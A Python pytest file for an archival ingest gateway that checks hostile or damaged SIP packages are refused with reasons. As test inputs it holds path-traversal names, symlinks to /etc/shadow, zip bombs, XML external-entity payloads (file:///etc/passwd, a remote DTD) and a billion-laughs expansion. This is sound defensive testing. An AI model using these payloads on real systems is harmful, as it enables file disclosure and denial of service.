"""SIPs that must be refused: each with an answer that says why, and nothing kept."""

from __future__ import annotations

import io
import os
import struct
import tarfile
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from sae.versement import antivirus
from sae.versement.container import Member
from sae.versement.refusal import Refusal
from sae.versement.seda import NAMESPACE

from tests.unit.archive_gateway.gateway_harness import (
    ARACTE,
    EICAR,
    FILES,
    PDF,
    FakeClamd,
    Gateway,
    bag,
    manifest,
    reply_of,
    sip,
    tar,
    zipped,
)

PACKS = [tar, zipped]
Pack = Callable[[dict[str, bytes]], bytes]


def whole(**changes: bytes) -> dict[str, bytes]:
    """A good SIP's entries, to damage."""
    return {"manifest.xml": manifest(), **FILES, **changes}


@pytest.mark.parametrize("pack", PACKS)
def test_wrong_digest(gateway: Gateway, pack: Pack) -> None:
    damaged = PDF.replace(b"%PDF-1.4", b"%PDF-1.5")
    shown = gateway.refused(pack(whole() | {"content/acte.pdf": damaged}), "EMPREINTE")
    assert "« content/acte.pdf » n'a pas l'empreinte SHA-512 annoncée" in shown


def test_wrong_size(gateway: Gateway) -> None:
    shown = gateway.refused(tar(whole() | {"content/acte.pdf": PDF + b"x"}), "EMPREINTE")
    assert f"fait {len(PDF) + 1} octets" in shown


@pytest.mark.parametrize("pack", PACKS)
def test_missing_file(gateway: Gateway, pack: Pack) -> None:
    entries = whole()
    del entries["content/ARActe.xml"]
    assert "« content/ARActe.xml » est annoncé" in gateway.refused(pack(entries), "FICHIER_ABSENT")


@pytest.mark.parametrize("pack", PACKS)
def test_extra_file(gateway: Gateway, pack: Pack) -> None:
    shown = gateway.refused(pack(whole() | {"content/passager.pdf": PDF}), "FICHIER_EN_TROP")
    assert "« content/passager.pdf » est dans le SIP et n'est pas annoncé" in shown


def test_every_fault_is_told_at_once(gateway: Gateway) -> None:
    entries = whole() | {"content/passager.pdf": PDF, "content/acte.pdf": PDF.replace(b"1.4", b"1.5")}
    del entries["content/ARActe.xml"]
    shown = gateway.refused(tar(entries), "EMPREINTE")
    assert all(word in shown for word in ("passager", "ARActe", "acte.pdf"))


def test_virus(gateway: Gateway) -> None:
    shown = gateway.refused(sip({"content/acte.pdf": PDF, "content/virus.txt": EICAR}), "VIRUS")
    assert "« content/virus.txt » : Eicar-Test-Signature" in shown


def test_no_scanner_no_versement(gateway: Gateway, clamd: FakeClamd) -> None:
    clamd.stop()
    shown = gateway.refused(sip(), "ANTIVIRUS")
    assert "aucun versement n'est admis sans analyse" in shown


def test_a_scanner_that_gives_no_verdict_refuses(gateway: Gateway, clamd: FakeClamd) -> None:
    clamd.verdict = "Can't allocate memory ERROR"
    answer = gateway.deposit(sip())
    assert not answer.accepted and answer.temporary
    clamd.verdict = ""
    assert gateway.deposit(sip()).accepted  # the same SIP passes once the scanner works


def scanned(folder: Path, clamd: FakeClamd, *contents: bytes) -> str:
    """Have files scanned, and nothing else of a versement."""
    members = []
    for rank, content in enumerate(contents):
        path = folder / f"fichier-{rank}"
        path.write_bytes(content)
        members.append(Member(f"content/{rank}.txt", path, len(content), ""))
    return antivirus.scan(members, antivirus.Clamd(clamd.path))


def test_the_scan_gives_the_scanner_s_version(tmp_path: Path, clamd: FakeClamd) -> None:
    assert scanned(tmp_path, clamd, b"un", b"deux") == "ClamAV 1.4.3/27000"


def test_an_empty_file_is_not_handed_to_the_scanner(tmp_path: Path, clamd: FakeClamd) -> None:
    clamd.verdict = "Empty file ERROR"
    assert scanned(tmp_path, clamd, b"") == "ClamAV 1.4.3/27000"


def test_every_virus_is_told(tmp_path: Path, clamd: FakeClamd) -> None:
    with pytest.raises(Refusal) as told:
        scanned(tmp_path, clamd, EICAR, b"sain", EICAR)
    assert not told.value.temporary
    assert [(reason.code, reason.text) for reason in told.value.reasons] == [
        ("VIRUS", "« content/0.txt » : Eicar-Test-Signature."),
        ("VIRUS", "« content/2.txt » : Eicar-Test-Signature."),
    ]


@pytest.mark.parametrize("verdict", ["Can't allocate memory ERROR", "ok", "FOUND", "OK FOUNDER"])
def test_a_file_without_a_clear_verdict_refuses_for_now(tmp_path: Path, clamd: FakeClamd, verdict: str) -> None:
    clamd.verdict = verdict
    with pytest.raises(Refusal) as told:
        scanned(tmp_path, clamd, b"sain")
    assert told.value.temporary
    assert [(reason.code, reason.text) for reason in told.value.reasons] == [
        ("ANTIVIRUS", f"« content/0.txt » n'a pas pu être analysé : {verdict}.")
    ]


@pytest.mark.parametrize("version", ["", "Bonjour", "ERROR ClamAV"])
def test_what_is_no_clamav_refuses_for_now(tmp_path: Path, clamd: FakeClamd, version: str) -> None:
    clamd.version = version
    with pytest.raises(Refusal) as told:
        scanned(tmp_path, clamd, b"sain")
    assert told.value.temporary
    assert [(reason.code, reason.text) for reason in told.value.reasons] == [
        ("ANTIVIRUS", f"L'antivirus a répondu « {version} ».")
    ]


def test_a_scanner_that_is_gone_refuses_for_now(tmp_path: Path, clamd: FakeClamd) -> None:
    clamd.stop()
    with pytest.raises(Refusal) as told:
        scanned(tmp_path, clamd, b"sain")
    assert told.value.temporary
    (reason,) = told.value.reasons
    assert reason.code == "ANTIVIRUS"
    assert reason.text == (
        "L'antivirus ne répond pas ([Errno 2] No such file or directory) : aucun versement n'est admis sans analyse. "
        "Réessayez plus tard."
    )


def test_an_answer_without_end_is_cut(tmp_path: Path, clamd: FakeClamd) -> None:
    clamd.version = "ClamAV " + "x" * 100_000
    assert 65536 < len(antivirus.Clamd(clamd.path).version()) < 65536 + 2 * 4096


def test_the_age_of_signatures_is_that_of_the_newest(tmp_path: Path) -> None:
    assert antivirus.signatures_age(tmp_path) is None
    (tmp_path / "freshclam.dat").touch()
    assert antivirus.signatures_age(tmp_path) is None
    for name, age in (("main.cvd", 9000), ("daily.cld", 600)):
        (tmp_path / name).touch()
        os.utime(tmp_path / name, (time.time() - age, time.time() - age))
    assert 599 <= (antivirus.signatures_age(tmp_path) or 0) < 700


def test_what_the_scanner_cannot_see_whole_is_refused(gateway: Gateway, clamd: FakeClamd) -> None:
    clamd.verdict = "Heuristics.Limits.Exceeded.MaxFileSize FOUND"
    assert "Limits.Exceeded" in gateway.refused(sip(), "VIRUS")


@pytest.mark.parametrize(
    ("content", "puid"),
    [(b"MZ" + b"\0" * 200, "x-fmt/409"), (zipped({"a": b"b"}), "x-fmt/263"), (b"\x00\x01\x02\x03\xff", "UNKNOWN")],
)
def test_forbidden_format(gateway: Gateway, content: bytes, puid: str) -> None:
    shown = gateway.refused(sip({"content/acte.pdf": content}), "FORMAT")
    assert f"« content/acte.pdf » est au format {puid}" in shown


def test_an_empty_file_has_no_format(gateway: Gateway) -> None:
    entries = {"manifest.xml": manifest().replace(f"<Size>{len(PDF)}</Size>".encode(), b""), **FILES}
    text = entries["manifest.xml"].decode()
    import hashlib

    empty = hashlib.sha512(b"").hexdigest()
    text = text.replace(hashlib.sha512(PDF).hexdigest(), empty)
    shown = gateway.refused(tar(entries | {"manifest.xml": text.encode(), "content/acte.pdf": b""}), "FORMAT")
    assert "est vide" in shown


# -- containers ---------------------------------------------------------------------------------------------

CLIMBING = ["../etc/passwd", "/etc/passwd", "content/../../x", "content//x", "c:/x", "a\\..\\b", "content/./x", "a\nb"]


@pytest.mark.parametrize("name", CLIMBING)
@pytest.mark.parametrize("pack", PACKS)
def test_path_traversal(gateway: Gateway, pack: Pack, name: str) -> None:
    assert "n'est pas un nom de fichier admis" in gateway.refused(pack(whole() | {name: b"x"}), "CONTENEUR")


@pytest.mark.parametrize("kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE, tarfile.CHRTYPE])
def test_links_and_devices_in_a_tar(gateway: Gateway, kind: bytes) -> None:
    buffer = io.BytesIO(tar(whole()))
    with tarfile.open(fileobj=buffer, mode="a") as archive:
        info = tarfile.TarInfo("content/lien")
        info.type, info.linkname = kind, "/etc/shadow"
        archive.addfile(info)
    assert "lien ou un fichier spécial" in gateway.refused(buffer.getvalue(), "CONTENEUR")


def test_a_link_in_a_zip(gateway: Gateway) -> None:
    buffer = io.BytesIO(zipped(whole()))
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("content/lien")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/shadow")
    assert "lien ou un fichier spécial" in gateway.refused(buffer.getvalue(), "CONTENEUR")


def test_zip_bomb(gateway: Gateway) -> None:
    bomb = {"content/acte.pdf": b"\0" * 30_000_000}
    assert "bombe de décompression" in gateway.refused(zipped(whole() | bomb), "CONTENEUR")


def test_a_zip_that_lies_about_its_sizes(gateway: Gateway) -> None:
    """The announced size is small, the stream goes on: what is written stops at the announced size, then it fails."""
    content = b"\0" * 30_000_000
    package = bytearray(zipped(whole() | {"content/acte.pdf": content}))
    for at in _positions(package, struct.pack("<L", len(content))):
        package[at : at + 4] = struct.pack("<L", 1000)
    assert "abîmé ou tronqué" in gateway.refused(bytes(package), "CONTENEUR")


def _positions(package: bytes | bytearray, wanted: bytes) -> list[int]:
    return [at for at in range(len(package) - 4) if package[at : at + 4] == wanted]


def test_too_much_once_unpacked(gateway: Gateway) -> None:
    content = b"".join(bytes([n % 251]) * 997 for n in range(70_000))
    assert "dépasse" in gateway.refused(zipped(whole() | {"content/acte.pdf": content}), "CONTENEUR")


@pytest.mark.parametrize("pack", PACKS)
def test_too_many_files(gateway: Gateway, pack: Pack) -> None:
    many = {f"content/{n}": b"x" for n in range(60)}
    assert "plus de 50 entrées" in gateway.refused(pack(whole() | many), "CONTENEUR")


def test_the_same_name_twice(gateway: Gateway) -> None:
    buffer = io.BytesIO(tar(whole()))
    with tarfile.open(fileobj=buffer, mode="a") as archive:
        info = tarfile.TarInfo("./content/acte.pdf")
        archive.addfile(info)
    assert "deux fois dans le conteneur" in gateway.refused(buffer.getvalue(), "CONTENEUR")


def test_a_header_that_would_fill_the_memory(gateway: Gateway) -> None:
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, 30_000_000
    package = info.tobuf() + b"\0" * 30_000_000
    assert "démesuré" in gateway.refused(package, "CONTENEUR")


@pytest.mark.parametrize("package", [b"", b"bonjour", PDF, b"PK\x03\x04" + b"\0" * 100])
def test_no_container_at_all(gateway: Gateway, package: bytes) -> None:
    gateway.refused(package, "CONTENEUR")


@pytest.mark.parametrize("pack", PACKS)
def test_a_truncated_container(gateway: Gateway, pack: Pack) -> None:
    package = pack(whole())
    cut = package.index(ARACTE) + 20 if pack is tar else len(package) - 30
    assert "abîmé ou tronqué" in gateway.refused(package[:cut], "CONTENEUR")


def test_an_encrypted_zip(gateway: Gateway) -> None:
    package = bytearray(zipped(whole()))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = package.find(mark)
        package[at + offset] |= 1
    assert "est chiffré" in gateway.refused(bytes(package), "CONTENEUR")


# -- manifests ----------------------------------------------------------------------------------------------


def with_manifest(content: bytes) -> bytes:
    """A SIP with another manifest."""
    return tar({"manifest.xml": content, **FILES})


def test_broken_xml(gateway: Gateway) -> None:
    shown = gateway.refused(with_manifest(manifest()[:-40]), "MANIFESTE")
    assert "n'est pas du XML bien formé" in shown


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTACKS = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>',
    f'<!DOCTYPE a [<!ENTITY l0 "lol">{LAUGHS}]>',
    '<!DOCTYPE a SYSTEM "http://192.0.2.1/x.dtd">',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_xml_entity_attack(gateway: Gateway, attack: str) -> None:
    content = manifest(title="&x;" if " x " in attack else "&l9;" if "l9" in attack else "rien").decode()
    head, _, rest = content.partition("\n")
    shown = gateway.refused(with_manifest(f"{head}\n{attack}\n{rest}".encode()), "MANIFESTE")
    assert "root:" not in shown and "lollol" not in shown


def test_a_manifest_that_is_no_transfer(gateway: Gateway) -> None:
    other = manifest().replace(b"ArchiveTransfer", b"ArchiveTransferReply")
    assert "un ArchiveTransfer est attendu" in gateway.refused(with_manifest(other), "MANIFESTE")


def test_another_version_of_seda(gateway: Gateway) -> None:
    other = manifest().replace(b"v2.3", b"v2.1")
    assert "n'est pas celui du SEDA 2.3" in gateway.refused(with_manifest(other), "MANIFESTE")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (b"<MessageIdentifier>ACTE-1</MessageIdentifier>", b""),
        (b"<Date>2026-02-01T10:00:00Z</Date>", b"<Date>hier</Date>"),
        (b"<FinalAction>Keep</FinalAction>", b"<FinalAction>Peut-etre</FinalAction>"),
        (b"<Uri>content/acte.pdf</Uri>", b""),
    ],
)
def test_a_manifest_that_does_not_conform(gateway: Gateway, before: bytes, after: bytes) -> None:
    assert before in manifest()
    shown = gateway.refused(with_manifest(manifest().replace(before, after)), "MANIFESTE")
    assert "non conforme au SEDA 2.3" in shown


def test_a_weak_digest_is_refused(gateway: Gateway) -> None:
    shown = gateway.refused(with_manifest(manifest().replace(b'"SHA-512"', b'"MD5"')), "MANIFESTE")
    assert "« MD5 » n'est pas admis" in shown


def test_no_retention_rule(gateway: Gateway) -> None:
    text = manifest().decode()
    start, end = text.index("<AppraisalRule>"), text.index("</AppraisalRule>") + len("</AppraisalRule>")
    assert "durée d'utilité administrative" in gateway.refused(
        with_manifest((text[:start] + text[end:]).encode()), "DUA"
    )


def test_neither_seda_nor_bagit(gateway: Gateway) -> None:
    assert "ni manifest.xml" in gateway.refused(tar(dict(FILES)), "MANIFESTE")


def test_the_answer_names_the_refused_transfer(gateway: Gateway) -> None:
    answer = gateway.deposit(tar(whole() | {"content/passager.pdf": PDF}))
    assert reply_of(answer).findtext(f"{{{NAMESPACE}}}MessageRequestIdentifier") == "ACTE-1"
    assert gateway.registry.last_answer("gondecourt", "ACTE-1") == answer


# -- bags ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "change", "code"),
    [
        ("data/content/acte.pdf", PDF + b"x", "EMPREINTE"),
        ("data/content/acte.pdf", None, "FICHIER_ABSENT"),
        ("data/content/autre.pdf", PDF, "FICHIER_EN_TROP"),
        ("autre.txt", b"x", "FICHIER_EN_TROP"),
        ("fetch.txt", b"http://192.0.2.1/x 1 data/x", "MANIFESTE"),
        ("bag-info.txt", b"External-Identifier: AUTRE\n", "MANIFESTE"),
        ("bagit.txt", b"BagIt-Version: 9.9\n", "MANIFESTE"),
        ("bagit.txt", b"\xff", "MANIFESTE"),
        ("manifest-sha512.txt", None, "MANIFESTE"),
        ("manifest-sha512.txt", b"pas une ligne\n", "MANIFESTE"),
        ("tagmanifest-sha512.txt", None, "MANIFESTE"),
    ],
)
def test_bad_bags(gateway: Gateway, name: str, change: bytes | None, code: str) -> None:
    entries = bag(root="")
    if change is None:
        del entries[name]
    else:
        entries[name] = change
    gateway.refused(tar(entries), code)


def test_a_bag_without_a_final_action(gateway: Gateway) -> None:
    assert "Sort-Final" in gateway.refused(tar(bag(Sort_Final="on verra")), "DUA")


def test_a_bag_changed_after_its_tag_manifest(gateway: Gateway) -> None:
    entries = bag(root="")
    entries["bag-info.txt"] = entries["bag-info.txt"].replace(b"SAC-1", b"SAC-2")
    assert "« bag-info.txt »" in gateway.refused(tar(entries), "EMPREINTE")
